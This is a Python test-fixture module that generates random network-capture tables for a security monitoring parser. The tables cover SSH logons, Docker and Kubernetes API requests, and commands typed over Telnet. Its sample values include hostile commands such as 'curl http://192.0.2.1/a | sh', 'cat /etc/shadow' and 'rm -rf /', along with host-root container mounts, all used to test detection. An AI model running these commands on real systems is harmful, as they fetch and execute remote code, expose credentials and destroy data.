"""Random tables, as an enriched capture gives them: few hosts, so that rows share their keys."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from functools import partial
from typing import Any

import polars as pl
from hypothesis import strategies as st

from parsers.schema import OBSERVED, SPOKEN_TABLES, polars_schema

SCHEMAS = {name: polars_schema(columns) for name, columns in OBSERVED.items()}
CONN = SCHEMAS["conn"]
SIDES = ("orig", "resp")
INSIDE = {"10.0.0.5": True, "10.0.0.6": True, "fd00::7": True, "224.0.0.251": None}
INSIDE |= {"198.51.100.7": False, "203.0.113.9": False, "2001:db8::1": False}
ORIG = ("198.51.100.7", "198.51.100.7", "203.0.113.9", "2001:db8::1", "10.0.0.6", "224.0.0.251")
RESP = ("10.0.0.5", "10.0.0.5", "10.0.0.5", "fd00::7", "198.51.100.7", "224.0.0.251")
PORTS = {22: "ssh", 3389: "rdp", 2375: "docker", 6443: "kubernetes", 10250: "kubelet", 443: None}
HEADS = (None, b"", b"SSH-2.0-OpenSSH_9.6\r\n", b"RFB 003.008\n", b"\x03\x00\x00\x13\x0e\xe0\x00")
HEADS += (b"GET /v1.44/info HTTP/1.1\r\n", b"HTTP/1.1 401 Unauthorized\r\n\r\n", b"\x00\xff\x1b[2J")
HEADS += (b"HTTP/1.1 200 OK\r\nApi-Version: 1.44\r\nDocker-Experimental: false\r\n\r\n",)
STATES = {"S0": "S", "REJ": "Sr", "SF": "ShADadFf", "S1": "ShADad", "RSTO": "ShADaR", "OTH": None}
SIZES = (None, 0, 48, 48, 3_000, 3_000, 25_000, 1_000_000, 1_000_001, 2**40)
OPERATIONS = ("discover", "list", "inspect", "login", "create", "exec-start", "export", "secrets")
BEFORE_MIDNIGHT = datetime(2026, 3, 1, 22, 30, tzinfo=UTC)
MINUTE = 60 * 10**9


def conn_row(**changes: Any) -> dict[str, Any]:
    """One answered SSH connection from outside to inside, with its enrichment; null by default."""
    row: dict[str, Any] = dict.fromkeys(CONN)
    row |= {"ts": BEFORE_MIDNIGHT, "uid": "C1", "proto": "tcp", "ip_proto": 6, "file": "a.pcap"}
    row |= {"orig_h": "198.51.100.7", "orig_p": 50000, "resp_h": "10.0.0.5", "resp_p": 22}
    row |= {"conn_state": "SF", "history": "ShADadFf", "service": "ssh", "frame": 1}
    row |= {"orig_inside": False, "resp_inside": True, "local_orig": False, "local_resp": True}
    row |= {"remote_service": "ssh", "remote_service_by": "port", "orig_allowed": False}
    row |= {"remote_service_sure": 0.95, "remote_service_why": "port only"}
    row |= {"orig_bytes": 5000, "resp_bytes": 7000, "missed_bytes": 0}
    row |= {"orig_pkts": 9, "resp_pkts": 9, "orig_ip_bytes": 5360, "resp_ip_bytes": 7360}
    return row | changes


def conn_frame(*rows: dict[str, Any]) -> pl.DataFrame:
    """The rows as an enriched conn table."""
    return pl.DataFrame(list(rows), schema=CONN)


@st.composite
def conn_rows(draw: Callable[..., Any]) -> dict[str, Any]:
    """One connection: what decides is drawn, the rest follows; the uid is the caller's."""
    orig, resp = draw(st.sampled_from(ORIG)), draw(st.sampled_from(RESP))
    port = draw(st.sampled_from(sorted(PORTS)))
    state = draw(st.sampled_from(sorted(STATES)))
    minutes, nanoseconds = draw(st.integers(0, 180)), draw(st.sampled_from((0, 1, 10**9)))
    sent = _side(draw(st.sampled_from((0, 1, 9, 9, 90))))
    known = draw(st.sampled_from((PORTS[port], PORTS[port], PORTS[port], None, "docker")))
    return conn_row(
        ts=int(BEFORE_MIDNIGHT.timestamp()) * 10**9 + minutes * MINUTE + nanoseconds,
        orig_h=orig,
        orig_inside=INSIDE[orig],
        local_orig=bool(INSIDE[orig]),
        resp_h=resp,
        resp_inside=INSIDE[resp],
        local_resp=bool(INSIDE[resp]),
        orig_allowed=draw(st.booleans()),
        resp_p=port,
        proto=draw(st.sampled_from(("tcp", "tcp", "udp"))),
        service=draw(st.sampled_from((None, "ssh", "http", "rfb", "a|b\\\n\x1b[31m"))),
        duration=draw(st.sampled_from((None, 0, 5 * 10**9, 3600 * 10**9))),
        remote_service=known,
        remote_service_by=known and draw(st.sampled_from(("content", "port"))),
        remote_service_sure=known and draw(st.sampled_from((0.3, 0.7, 0.95, 1.0))),
        remote_service_why=known and "port only",
        conn_state=state,
        history=STATES[state],
        community_id=draw(st.sampled_from((None, "1:LQU9qZlK+B5F3KDmev6m5PMibrg="))),
        tunnel_parents=draw(st.sampled_from((None, [], ["C9"]))),
        payload_sizes=draw(st.sampled_from((None, [], [21, -21, 148, -92]))),
        **{f"{side}_{name}": figure for side in SIDES for name, figure in draw(sent).items()},
    )


@st.composite
def _side(draw: Callable[..., Any], packets: int) -> dict[str, Any]:
    size = draw(st.sampled_from(SIZES))
    sized = bool(size and packets)
    return {
        "bytes": size,
        "pkts": packets,
        "ip_bytes": (size or 0) + 40 * packets,
        "payload_pkts": packets if sized else 0,
        "payload_mean": size / packets if sized else None,
        "payload_max": min(size, 1460) if sized else None,
        "payload_hist": [packets] + [0] * 15 if sized else [0] * 16,
        "head": draw(st.sampled_from(HEADS)),
    }


@st.composite
def conn_frames(draw: Callable[..., Any], most: int = 12) -> pl.DataFrame:
    """An enriched conn table of up to `most` rows, each with a uid of its own."""
    height = draw(st.integers(0, most))
    rows = draw(st.lists(conn_rows(), min_size=height, max_size=height))
    return conn_frame(*({**row, "uid": f"C{place}"} for place, row in enumerate(rows)))


def spoken_row(**changes: Any) -> dict[str, Any]:
    """What an enriched row of a protocol's log has of the server: SSH, by default."""
    row = {name: conn_row()[name] for name in ("ts", "uid", "orig_h", "orig_p", "resp_h", "resp_p")}
    row |= {"orig_inside": False, "resp_inside": True, "orig_allowed": False, "proto": "tcp"}
    row |= {"remote_service": "ssh", "remote_service_by": "content", "file": None, "line": None}
    return row | {"says": None, "offers": None} | changes


def logon_row(**changes: Any) -> dict[str, Any]:
    """A failed logon to SSH with a password, enriched."""
    row = {"service": "ssh", "method": "password", "outcome": "failed", "attempts": 1}
    row |= {"user": "root", "host": None, "known_by": "server log", "confidence": 1.0}
    return spoken_row(**row) | changes


@st.composite
def logon_frames(draw: Callable[..., Any], most: int = 12) -> pl.DataFrame:
    """Up to `most` logons on connections like those of conn."""
    conn = draw(st.lists(conn_rows(), max_size=most))
    columns = set(spoken_row())
    return spoken_frame(
        "logon",
        *(
            logon_row(
                **{name: value for name, value in row.items() if name in columns}
                | {
                    "uid": f"C{place}",
                    "user": draw(st.sampled_from((None, "root", "a|b"))),
                    "outcome": draw(st.sampled_from(("failed", "failed", "success", "unknown"))),
                    "attempts": draw(st.sampled_from((None, 0, 1, 3, 40))),
                    "confidence": draw(st.sampled_from((None, 0.5, 1.0))),
                }
            )
            for place, row in enumerate(conn)
        ),
    )


def container_row(**changes: Any) -> dict[str, Any]:
    """A container made over the Docker API without credentials, from outside, enriched."""
    row = {name: conn_row()[name] for name in ("ts", "uid", "orig_h", "orig_p", "resp_h")}
    row |= {"orig_inside": False, "resp_inside": True, "orig_allowed": False, "resp_p": 2375}
    row |= {"api": "docker", "operation": "create", "method": "POST", "uri": "/containers/create"}
    row |= {"status_code": 201, "outcome": "succeeded", "authentication": "open"}
    row |= {"risks": [], "command": None, "mounts": [], "unread": None}
    row |= {"request_bytes": 300, "response_bytes": 80, "user_agent": "curl/7.88.1"}
    return row | changes


@st.composite
def container_frames(draw: Callable[..., Any], most: int = 12) -> pl.DataFrame:
    """Up to `most` requests to container APIs, on connections like those of conn."""
    conn = draw(st.lists(conn_rows(), max_size=most))
    columns = ("ts", "orig_h", "resp_h", "resp_p", "orig_inside", "resp_inside", "orig_allowed")
    texts = (None, "id", "cat /etc/shadow\n\x1b[2Jrm -rf /", "a" * 300)
    drawn = {
        "api": ("docker", "docker", "kubernetes"),
        "operation": OPERATIONS,
        "outcome": ("succeeded", "succeeded", "refused", "failed", "unknown"),
        "authentication": ("open", "credentials", "anonymous-refused", "refused", "unknown"),
        "command": texts,
        "risks": (None, [], ["privileged", "host-mount"]),
        "mounts": (None, [], ["/:/host", "/a\nb:/c"]),
        "user_agent": (None, "curl/7.88.1", "a|b"),
        "request_bytes": (None, 0, 300),
        "response_bytes": (None, 0, 40_000),
        "unread": (None, "not_json"),
    }
    return spoken_frame(
        "container_api",
        *(
            container_row(
                uid=f"C{place}",
                **{name: row[name] for name in columns},
                **{name: draw(st.sampled_from(values)) for name, values in drawn.items()},
            )
            for place, row in enumerate(conn)
        ),
    )


def spoken_frame(table: str, *rows: dict[str, Any]) -> pl.DataFrame:
    """The rows as an enriched table: of `SPOKEN_TABLES`, or of our own."""
    names = SCHEMAS[table]
    return pl.DataFrame([{name: row.get(name) for name in names} for row in rows], schema=names)


@st.composite
def spoken_frames(draw: Callable[..., Any], table: str, most: int = 6) -> pl.DataFrame:
    """Up to `most` rows of a table of `SPOKEN_TABLES`, on connections like those of conn."""
    conn = draw(st.lists(conn_rows(), max_size=most))
    columns = set(spoken_row())
    return spoken_frame(
        table,
        *(
            {name: value for name, value in row.items() if name in columns}
            | {
                "uid": f"C{place}",
                "says": draw(st.sampled_from((None, "RFB 003.008", "SSH-2.0-\x1b[31m"))),
                "offers": draw(st.sampled_from((None, "None", "SSL", "Basic", "a|b"))),
            }
            for place, row in enumerate(conn)
        ),
    )


@st.composite
def container_tls_frames(draw: Callable[..., Any], most: int = 6) -> pl.DataFrame:
    """Up to `most` connections to container APIs within TLS, like those of conn."""
    conn = draw(st.lists(conn_rows(), max_size=most))
    columns = ("ts", "orig_h", "resp_h", "resp_p", "orig_inside", "resp_inside", "orig_allowed")
    drawn = {
        "service": ("docker", "kubernetes", "kubelet"),
        "client_certificate": (None, "not asked", "asked, none sent", "sent, accepted"),
        "answers": (None, 0, 3),
        "data": (None, 0, 2),
        "data_bytes": (0, 9_000),
        "exec": (None, False, True),
    }
    return spoken_frame(
        "container_tls",
        *(
            {"uid": f"C{place}"}
            | {name: row[name] for name in columns}
            | {name: draw(st.sampled_from(values)) for name, values in drawn.items()}
            for place, row in enumerate(conn)
        ),
    )


def command_row(**changes: Any) -> dict[str, Any]:
    """A command that was typed over Telnet from outside, enriched."""
    names = ("ts", "uid", "orig_h", "orig_p", "resp_h", "resp_p")
    row = dict.fromkeys(SCHEMAS["command"]) | {name: conn_row()[name] for name in names}
    row |= {"orig_inside": False, "resp_inside": True, "orig_allowed": False, "resp_p": 23}
    row |= {"service": "telnet", "typed_by": "orig", "command": "id", "tells": []}
    return row | changes


def request_row(**changes: Any) -> dict[str, Any]:
    """A command that a request to Docker's API from outside runs in a container, enriched."""
    names = ("ts", "uid", "orig_h", "orig_p", "resp_h", "resp_p")
    row = dict.fromkeys(SCHEMAS["container_api"]) | {name: conn_row()[name] for name in names}
    row |= {"orig_inside": False, "resp_inside": True, "orig_allowed": False, "resp_p": 2375}
    row |= {"api": "docker", "operation": "exec-start", "outcome": "succeeded", "command": "id"}
    return row | {"method": "POST", "uri": "/", "authentication": "open", "risks": []} | changes


SAID = {"id": [], "ls|\x1b[31m": [], "curl http://192.0.2.1/a": ["download"], "./a": []}
SAID |= {"curl http://192.0.2.1/a | sh": ["download", "download-execute"], "nmap 10.1": ["scan"]}


@st.composite
def command_frames(draw: Callable[..., Any], most: int = 12) -> pl.DataFrame:
    """Up to `most` commands on connections like those of conn, typed by either side."""
    rows = []
    for place, conn in enumerate(draw(st.lists(conn_rows(), max_size=most))):
        command = draw(st.sampled_from(sorted(SAID)))
        row = {name: conn[name] for name in command_row() if name in conn}
        row |= {
            "uid": f"C{place}",
            "command": command,
            "tells": draw(st.sampled_from((None, SAID[command]))),
        }
        row |= {"service": draw(st.sampled_from(("telnet", "rlogin", "ftp", "shell", None)))}
        row |= {"typed_by": draw(st.sampled_from(("orig", "resp", None))), "file": None}
        row |= {"output": draw(st.sampled_from((None, "226 done", "530 no", "root")))}
        rows.append(row | {"unlisted": draw(st.sampled_from((None, 3)))})
    return spoken_frame("command", *rows)


TABLES = {
    "command": command_frames,
    **{table: partial(spoken_frames, table) for table in SPOKEN_TABLES},
    "conn": conn_frames,
    "logon": logon_frames,
    "container_api": container_frames,
    "container_tls": container_tls_frames,
}
